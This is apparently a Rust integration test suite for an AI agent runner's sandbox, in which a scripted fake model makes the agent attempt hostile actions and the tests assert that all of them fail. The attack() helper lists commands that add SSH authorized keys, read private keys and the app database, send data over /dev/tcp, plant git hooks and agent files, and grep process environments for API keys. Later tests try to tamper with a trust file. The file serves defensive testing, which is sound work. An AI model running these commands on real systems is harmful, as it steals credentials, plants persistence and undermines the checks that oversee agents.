//! A gullible agent does what it is told, and it comes to nothing: through the real binary, seen
//! from outside.

use crate::world::{World, bash, started};
use posse_testkit::{Reply, Script};
use serde_json::json;
use std::net::TcpListener;

/// An agent that only looks, and has a shell.
const LOOKER: &str =
    r#"{"looker": {"description": "looks", "prompt": "Look.", "tools": ["Read", "Bash"]}}"#;

/// All that an attacker would want, each part whether the others worked or not.
fn attack(port: u16) -> String {
    [
        "echo x > $HOME/planted".to_owned(),
        "echo x >> $HOME/.ssh/authorized_keys".to_owned(),
        "cat $HOME/.ssh/id $HOME/data/posse/posse.db*".to_owned(),
        format!("echo secret > /dev/tcp/127.0.0.1/{port}"),
        "mkdir -p .posse/agents && echo x > .posse/agents/evil.md".to_owned(),
        "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit".to_owned(),
        "echo x > posse.toml".to_owned(),
        "kill -9 $PPID".to_owned(),
        "cat /proc/*/environ | tr '\\0' '\\n' | grep sk-".to_owned(),
    ]
    .join("; ")
}

async fn check(arguments: &[&str], writes: bool) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let command = attack(listener.local_addr().unwrap().port());
    let made = bash(&format!("echo ok > made; {command}"));
    let world = World::new(Script::turns([made, Reply::text("{{last_tool_result}}")])).await;
    std::fs::create_dir(world.home().join(".ssh")).unwrap();
    std::fs::write(world.home().join(".ssh/id"), "canary-key").unwrap();
    let exit = world.run(arguments).await.expect(0);
    assert!(
        !exit.out.contains("canary-key") && !exit.out.contains("SQLite format"),
        "{}",
        exit.out
    );
    assert!(!exit.out.contains("sk-test"), "{}", exit.out);
    assert!(listener.accept().is_err(), "something was sent");
    assert!(!world.home().join("planted").exists());
    assert!(!world.home().join(".ssh/authorized_keys").exists());
    let names: Vec<_> = std::fs::read_dir(world.work()).unwrap().flatten().collect();
    let expected = if writes { 1 } else { 0 };
    assert_eq!(names.len(), expected, "{names:?}");
    assert_eq!(world.read("made") == "ok\n", writes);
}

#[tokio::test]
async fn an_agent_that_writes_changes_its_workspace_and_nothing_that_others_obey() {
    check(&["run", "do it"], true).await;
}

#[tokio::test]
async fn an_agent_that_only_looks_changes_nothing() {
    check(&["run", "--agents", LOOKER, "--agent", "looker", "do it"], false).await;
}

#[tokio::test]
async fn a_name_that_nobody_here_may_make_is_explained() {
    let tries = "mkdir .vscode; echo x > .helix/languages.toml; mkdir refs";
    let world = World::new(Script::turns([bash(tries), Reply::text("{{last_tool_result}}")])).await;
    let exit = world.run(&["run", "do it"]).await.expect(0);
    let told =
        "[no command and no tool here can make or change .vscode, .helix, refs: programs outside";
    assert!(exit.out.contains(told), "{}", exit.out);
    let world =
        World::new(Script::turns([bash("mkdir a; mkdir a"), Reply::text("{{last_tool_result}}")]))
            .await;
    let exit = world.run(&["run", "do it"]).await.expect(0);
    assert!(!exit.out.contains("no command and no tool"), "{}", exit.out);
}

/// Whom the user trusts is written there.
#[tokio::test]
async fn what_posse_keeps_of_its_own_is_hidden_also_in_the_workspace() {
    let try_it = "cat state/posse/trust.jsonl; echo evil >> state/posse/trust.jsonl; \
                  mv state/posse other; mv state elsewhere; mkdir -p state/posse; \
                  echo evil > state/posse/trust.jsonl";
    let world =
        World::new(Script::turns([bash(try_it), Reply::text("{{last_tool_result}}")])).await;
    let state = world.work().join("state");
    std::fs::create_dir_all(state.join("posse")).unwrap();
    world.write("state/posse/trust.jsonl", "canary");
    let mut command = world.command(&["run", "do it"]);
    command.env("XDG_STATE_HOME", &state);
    let exit = started(command).end().await.expect(0);
    assert!(!exit.out.contains("canary"), "{}", exit.out);
    assert_eq!(world.read("state/posse/trust.jsonl"), "canary");
}

#[tokio::test]
async fn doctor_says_what_serves_whom_and_no_probe_succeeds() {
    let world = World::saying("x").await;
    let said = world.run(&["doctor"]).await.expect(0).out;
    assert!(said.contains("read-only") && said.contains("Landlock version"), "{said}");
    let told = world.run(&["doctor", "--json"]).await.expect(0).json();
    assert_eq!(told["profiles"].as_array().unwrap().len(), 2);
    let columns = world.run(&["doctor", "--sandbox", "--json"]).await.expect(0).json();
    for column in columns.as_array().unwrap() {
        assert!(column["succeeded"] == json!(0) || column["problem"].is_string(), "{column}");
    }
}

#[tokio::test]
async fn an_agent_is_told_that_commands_have_no_network() {
    let asks = "getent hosts example.org || echo 'curl: (6) Could not resolve host: example.org'";
    let world = World::new(Script::turns([bash(asks), Reply::text("done")])).await;
    world.run(&["run", "x"]).await.expect(0);
    let said = &world.fake.last_request().tool_results()[0];
    assert!(said.contains("commands have no network here"), "{said}");
    assert!(said.contains("`--network HOST`"), "{said}");
    // Who has one has another trouble.
    let world = World::new(Script::turns([bash(asks), Reply::text("done")])).await;
    world.run(&["run", "--network", "open", "x"]).await.expect(0);
    let said = &world.fake.last_request().tool_results()[0];
    assert!(!said.contains("commands have no network here"), "{said}");
    let refused = world.run(&["run", "--network", "on", "x"]).await;
    assert_eq!(refused.code, Some(2), "{refused:?}");
    assert!(refused.err.contains("write `open`"), "{}", refused.err);
}
